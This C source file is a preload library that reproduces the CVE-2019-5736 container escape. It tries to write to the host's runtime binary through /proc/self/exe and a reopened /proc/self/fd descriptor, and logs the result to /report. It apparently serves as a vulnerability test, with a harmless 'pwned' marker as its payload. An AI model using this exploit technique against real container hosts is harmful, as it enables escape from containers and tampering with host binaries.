/* exe_preload.so: the CVE-2019-5736 attack as a preload library, for a container whose process is
 * /proc/self/exe (or a #!/proc/self/exe script) with LD_PRELOAD pointing here. If the host's binary
 * runs in the container, this constructor runs in it: it tries to open /proc/self/exe for writing,
 * then holds it read-only, hands the fd to a shell that keeps reopening it through /proc/self/fd
 * for appending once nothing executes the binary any more, and replaces itself with sleep.
 * Everything goes to /report: "LOADED <exe>", "WROTE ..." (the attack worked) or "NOWRITE ...". */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void report(const char *fmt, const char *a, int e)
{
	FILE *f = fopen("/report", "a");

	if (!f)
		return;
	fprintf(f, fmt, a, e ? strerror(e) : "");
	fputc('\n', f);
	fclose(f);
}

__attribute__((constructor)) static void attack(void)
{
	char exe[256] = "", script[512];
	ssize_t n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
	int fd;

	if (n > 0)
		exe[n] = '\0';
	report("LOADED %s%s", exe, 0);
	unsetenv("LD_PRELOAD");
	fd = open("/proc/self/exe", O_WRONLY | O_APPEND);
	if (fd >= 0 && write(fd, "pwned\n", 6) == 6)
		report("WROTE direct %s%s", exe, 0);
	else
		report("NOWRITE direct %s: %s", exe, errno);
	fd = open("/proc/self/exe", O_RDONLY); /* inherited by the shell below */
	if (fd < 0) {
		report("NOWRITE hold %s: %s", exe, errno);
		_exit(1);
	}
	snprintf(script, sizeof(script),
		 "for i in $(seq 50); do if echo pwned >>/proc/self/fd/%d; then echo WROTE reopen >>/report;"
		 " exit; fi 2>/dev/null; sleep 0.1; done; echo NOWRITE reopen >>/report",
		 fd);
	if (fork() == 0) {
		execl("/bin/sh", "sh", "-c", script, (char *)NULL);
		_exit(1);
	}
	close(fd);
	execl("/bin/sleep", "sleep", "6", (char *)NULL);
	_exit(1);
}
